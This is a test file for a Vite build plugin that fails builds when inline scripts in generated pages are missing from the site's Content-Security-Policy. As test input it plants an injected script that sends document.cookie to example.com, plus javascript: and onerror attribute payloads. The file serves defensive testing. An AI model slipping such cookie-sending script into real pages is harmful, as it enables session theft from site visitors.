import { createHash } from 'node:crypto';
import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { build } from 'vite';
import type { Plugin } from 'vite';
import { afterEach, beforeEach, expect, test } from 'vitest';
import { checkPolicy } from '../../src/build/policy-plugin.ts';
import config from '../../vite.config.ts';

const named = 'document.title = "named"';
const other = 'document.title = "other"';
const planted = '\n  fetch("https://example.com/" + document.cookie)\n';

const toHash = (script: string) => `sha256-${createHash('sha256').update(script).digest('base64')}`;

/**
 * Creates a plugin that writes a page at the end of the build, in the same way as the prerendered pages. No
 * other plugin of the build sees that page.
 */
const latePage = (body: string): Plugin => ({
  name: 'late-page',
  writeBundle: async ({ dir = '' }) => {
    await mkdir(join(dir, 'deeper'), { recursive: true });
    await writeFile(join(dir, 'deeper/late.html'), `<!doctype html><body>${body}</body>`);
  },
});

let root = '';

beforeEach(async () => {
  root = await mkdtemp(join(tmpdir(), 'policy-'));
});

afterEach(() => rm(root, { recursive: true }));

async function write(file: string, text: string): Promise<void> {
  await mkdir(dirname(join(root, file)), { recursive: true });
  await writeFile(join(root, file), text);
}

/** Builds a project with two pages. The policy names one script of each page. */
async function buildPages(first: string, late = `<script>${other}</script>`): Promise<void> {
  const sources = `'self' '${toHash(named)}' '${toHash(other)}'`;
  const value = `default-src 'none'; script-src ${sources}; style-src 'self'`;
  const headers = [{ source: '**', headers: [{ key: 'Content-Security-Policy', value }] }];
  await write('firebase.json', JSON.stringify({ hosting: { headers } }));
  await write('index.html', `<!doctype html><head><script>${named}</script></head>${first}`);
  await build({
    root,
    configFile: false,
    logLevel: 'silent',
    plugins: [checkPolicy(), latePage(late)],
  });
}

test('a build succeeds if the policy names every script of its pages', async () => {
  await expect(buildPages('<p>oncology = javascript: a word</p>')).resolves.toBeUndefined();
});

test('a build fails if a page contains a script that the policy does not name', async () => {
  await expect(buildPages(`<script>${planted}</script>`)).rejects.toThrow(
    `index.html holds an inline script that the policy does not name: “fetch("https://example.com/" + document.cookie)”. If it is ours, add '${toHash(planted)}' to script-src in firebase.json.`,
  );
});

test('a build fails if a page written at the end of the build contains a script in an attribute', async () => {
  const late = `<script>${other}</script><a href=" JavaScript:alert(1)">a</a><img onerror="alert(2)">`;
  await expect(buildPages('', late)).rejects.toThrow(
    /late\.html .*href=.*\n.*onerror=“alert\(2\)”/,
  );
});

test('a build fails if the policy names a script that no page contains', async () => {
  await expect(buildPages('', '')).rejects.toThrow(
    `The policy in firebase.json names '${toHash(other)}', but no page holds that script.`,
  );
});

test('every build of the app compares its pages with the policy', () => {
  const names = [config.plugins].flat(3).map((plugin) => plugin && 'name' in plugin && plugin.name);
  expect(names).toContain('fooddash:policy');
});
